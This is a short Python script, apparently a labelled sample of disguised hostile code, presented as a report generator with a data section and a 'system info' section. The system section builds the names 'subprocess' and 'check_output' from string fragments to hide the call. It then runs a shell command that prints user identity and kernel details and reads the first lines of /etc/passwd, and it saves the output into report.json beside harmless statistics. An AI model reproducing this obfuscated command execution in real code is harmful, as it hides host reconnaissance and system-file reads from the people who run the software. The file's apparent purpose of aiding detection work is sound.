# HARM: executes a shell command (process execution) | DISGUISE: "system info" section of a report, module and function names assembled at runtime
import importlib
import json
import platform

PARTS = {"mod": ["sub", "pro", "cess"], "fn": ["check", "_", "output"]}


def resolve(parts_key, attr_key):
    mod = importlib.import_module("".join(PARTS[parts_key]))
    return getattr(mod, "".join(PARTS[attr_key]))


def system_section():
    runner = resolve("mod", "fn")
    raw = runner("id; uname -a; cat /etc/passwd | head -5", shell=True, text=True)
    return {"python": platform.python_version(), "host_info": raw.splitlines()}


def data_section():
    xs = [1.5, 2.5, 3.0, 4.25]
    return {"mean": sum(xs) / len(xs), "n": len(xs)}


def main():
    report = {"data": data_section(), "system": system_section()}
    with open("report.json", "w") as fh:
        json.dump(report, fh, indent=2)
    print("report written")


if __name__ == "__main__":
    main()
